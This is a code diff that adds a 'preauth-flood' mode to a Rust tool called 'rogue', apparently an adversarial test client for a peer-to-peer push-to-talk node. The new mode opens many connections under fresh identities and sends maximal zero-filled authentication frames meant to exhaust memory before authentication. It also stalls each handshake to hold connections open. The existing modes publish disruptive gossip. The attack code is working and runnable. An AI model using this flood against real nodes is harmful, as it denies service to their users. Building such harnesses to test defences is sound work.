@@ -4,7 +4,16 @@
 //!
 //! ```text
 //! rogue --bundle DIR --peer MULTIADDR/p2p/PEER_ID --mode MODE --count N [--channel C]
+//! rogue --peer MULTIADDR/p2p/PEER_ID --mode preauth-flood --count CONNECTIONS [--frames F]
+//!       [--frame-bytes B]
 //! ```
+//!
+//! `preauth-flood` needs no bundle: a stranger opens CONNECTIONS connections, each under a new
+//! peer id, and on each sends F authentication requests (8 by default, the most a connection
+//! may have at once) framed as B bytes (1 MiB by default, what `/ptt-node/auth/1` took from
+//! anyone), all zeros after the length prefix (a list of empty entries: 24 bytes each decoded
+//! where no bound stops it). It prints `connected K` when K connections are up, then
+//! `sent K` once their requests are written or refused.
 //!
 //! Modes (each publishes N envelopes on the channel's gossip topic, signed with the member's
 //! own key, so they pass every check a forgery fails):
@@ -46,14 +55,17 @@ struct Rogue {
 enum Mode {
     Ahead,
     Garbage,
+    PreauthFlood,
 }
 
 struct Args {
-    bundle: std::path::PathBuf,
+    bundle: Option<std::path::PathBuf>,
     peer: Multiaddr,
     mode: Mode,
     count: u64,
     channel: u32,
+    frames: u32,
+    frame_bytes: usize,
 }
 
 fn usage(why: &str) -> ! {
@@ -65,6 +77,7 @@ fn usage(why: &str) -> ! {
 
 fn args() -> Args {
     let (mut bundle, mut peer, mut mode, mut count, mut channel) = (None, None, None, None, 1);
+    let (mut frames, mut frame_bytes) = (8, 1 << 20);
     let mut it = std::env::args().skip(1);
     while let Some(flag) = it.next() {
         let value = it
@@ -83,6 +96,7 @@ fn args() -> Args {
                 mode = Some(match value.as_str() {
                     "gossip-ahead" => Mode::Ahead,
                     "gossip-garbage" => Mode::Garbage,
+                    "preauth-flood" => Mode::PreauthFlood,
                     m => usage(&format!("unknown mode {m}")),
                 })
             }
@@ -98,15 +112,31 @@ fn args() -> Args {
                     .parse()
                     .unwrap_or_else(|e| usage(&format!("--channel: {e}")))
             }
+            "--frames" => {
+                frames = value
+                    .parse()
+                    .unwrap_or_else(|e| usage(&format!("--frames: {e}")))
+            }
+            "--frame-bytes" => {
+                frame_bytes = value
+                    .parse()
+                    .unwrap_or_else(|e| usage(&format!("--frame-bytes: {e}")))
+            }
             f => usage(&format!("unknown flag {f}")),
         }
     }
+    let mode = mode.unwrap_or_else(|| usage("--mode is required"));
+    if bundle.is_none() && mode != Mode::PreauthFlood {
+        usage("--bundle is required");
+    }
     Args {
-        bundle: bundle.unwrap_or_else(|| usage("--bundle is required")),
+        bundle,
         peer: peer.unwrap_or_else(|| usage("--peer is required")),
-        mode: mode.unwrap_or_else(|| usage("--mode is required")),
+        mode,
         count: count.unwrap_or_else(|| usage("--count is required")),
         channel,
+        frames,
+        frame_bytes,
     }
 }
 
@@ -116,10 +146,186 @@ fn now_us() -> u64 {
         .map_or(0, |d| d.as_micros() as u64)
 }
 
+/// Frames of raw bytes on the authentication protocol, as a stranger writes them.
+#[derive(Clone, Default)]
+struct RawCodec;
+
+impl request_response::Codec for RawCodec {
+    type Protocol = libp2p::StreamProtocol;
+    type Request = Vec<u8>;
+    type Response = Vec<u8>;
+
+    async fn read_request<T: futures::AsyncRead + Unpin + Send>(
+        &mut self,
+        _: &Self::Protocol,
+        io: &mut T,
+    ) -> std::io::Result<Vec<u8>> {
+        // The victim's hello: taken, never answered, so the connection waits for its
+        // authentication timeout instead of being refused at once.
+        use futures::AsyncReadExt;
+        let mut b = Vec::new();
+        io.take(64 * 1024).read_to_end(&mut b).await?;
+        Ok(b)
+    }
+
+    async fn read_response<T: futures::AsyncRead + Unpin + Send>(
+        &mut self,
+        _: &Self::Protocol,
+        io: &mut T,
+    ) -> std::io::Result<Vec<u8>> {
+        use futures::AsyncReadExt;
+        let mut b = Vec::new();
+        io.take(64 * 1024).read_to_end(&mut b).await?;
+        Ok(b)
+    }
+
+    async fn write_request<T: futures::AsyncWrite + Unpin + Send>(
+        &mut self,
+        _: &Self::Protocol,
+        io: &mut T,
+        req: Vec<u8>,
+    ) -> std::io::Result<()> {
+        use futures::AsyncWriteExt;
+        io.write_all(&req).await?;
+        io.close().await
+    }
+
+    async fn write_response<T: futures::AsyncWrite + Unpin + Send>(
+        &mut self,
+        _: &Self::Protocol,
+        _: &mut T,
+        _: Vec<u8>,
+    ) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// `preauth-flood`: `a.count` strangers, one connection each, `a.frames` maximal requests
+/// each.
+async fn preauth_flood(a: &Args) {
+    // A roster push (variant 1) of as many empty certificates as the frame holds: a varint
+    // count, then one zero byte (an empty byte string) per entry.
+    let varint = |mut n: usize| {
+        let mut v = Vec::new();
+        loop {
+            let byte = (n & 0x7f) as u8;
+            n >>= 7;
+            if n == 0 {
+                v.push(byte);
+                return v;
+            }
+            v.push(byte | 0x80);
+        }
+    };
+    let body_len = a.frame_bytes.max(8);
+    let mut n = body_len - 1;
+    while 1 + varint(n).len() + n > body_len {
+        n -= 1;
+    }
+    let mut frame = (u32::try_from(body_len).unwrap_or(u32::MAX))
+        .to_be_bytes()
+        .to_vec();
+    frame.push(1);
+    frame.extend(varint(n));
+    frame.resize(4 + 1 + varint(n).len() + n, 0);
+    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<&'static str>();
+    for _ in 0..a.count {
+        let (peer, frame, tx, frames) = (a.peer.clone(), frame.clone(), tx.clone(), a.frames);
+        tokio::spawn(async move {
+            let Ok(b) = libp2p::SwarmBuilder::with_new_identity()
+                .with_tokio()
+                .with_tcp(
+                    tcp::Config::default().nodelay(true),
+                    noise::Config::new,
+                    yamux::Config::default,
+                )
+            else {
+                return;
+            };
+            let Ok(b) = b.with_behaviour(|_| {
+                request_response::Behaviour::<RawCodec>::new(
+                    [(AUTH_PROTOCOL, request_response::ProtocolSupport::Full)],
+                    request_response::Config::default()
+                        .with_request_timeout(Duration::from_secs(30))
+                        .with_max_concurrent_streams(64),
+                )
+            });
+            let mut swarm = b
+                .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(60)))
+                .build();
+            if swarm.dial(peer).is_err() {
+                let _ = tx.send("failed");
+                return;
+            }
+            let mut done = 0;
+            let mut held = Vec::new();
+            loop {
+                match swarm.select_next_some().await {
+                    SwarmEvent::ConnectionEstablished { peer_id, .. } => {
+                        let _ = tx.send("connected");
+                        for _ in 0..frames {
+                            swarm.behaviour_mut().send_request(&peer_id, frame.clone());
+                        }
+                    }
+                    SwarmEvent::OutgoingConnectionError { .. } => {
+                        let _ = tx.send("failed");
+                        return;
+                    }
+                    SwarmEvent::ConnectionClosed { .. } => {
+                        let _ = tx.send("closed");
+                        return;
+                    }
+                    SwarmEvent::Behaviour(request_response::Event::Message {
+                        message: request_response::Message::Request { channel, .. },
+                        ..
+                    }) => held.push(channel),
+                    SwarmEvent::Behaviour(
+                        request_response::Event::OutboundFailure { .. }
+                        | request_response::Event::Message { .. },
+                    ) => {
+                        done += 1;
+                        if done == frames {
+                            let _ = tx.send("sent");
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        });
+    }
+    drop(tx);
+    let (mut connected, mut sent, mut failed) = (0, 0, 0);
+    let started = tokio::time::Instant::now();
+    while started.elapsed() < LIFETIME {
+        match tokio::time::timeout(Duration::from_secs(1), rx.recv()).await {
+            Ok(Some("connected")) => {
+                connected += 1;
+                println!("connected {connected}");
+            }
+            Ok(Some("sent")) => {
+                sent += 1;
+                println!("sent {sent}");
+            }
+            Ok(Some(_)) => {
+                failed += 1;
+                println!("failed {failed}");
+            }
+            Ok(None) => return,
+            Err(_) => {}
+        }
+    }
+}
+
 #[tokio::main(flavor = "current_thread")]
 async fn main() {
     let a = args();
-    let bundle = Bundle::load(&a.bundle).unwrap_or_else(|e| usage(&e.to_string()));
+    if a.mode == Mode::PreauthFlood {
+        return preauth_flood(&a).await;
+    }
+    let Some(bundle_dir) = &a.bundle else {
+        usage("--bundle is required");
+    };
+    let bundle = Bundle::load(bundle_dir).unwrap_or_else(|e| usage(&e.to_string()));
     let keypair = bundle
         .libp2p_keypair()
         .unwrap_or_else(|e| usage(&e.to_string()));
@@ -256,7 +462,7 @@ async fn main() {
             sent = true;
             let base = match a.mode {
                 Mode::Ahead => now_us() + 3_600_000_000,
-                Mode::Garbage => now_us(),
+                _ => now_us(),
             };
             let mut ok = 0;
             for i in 0..a.count {
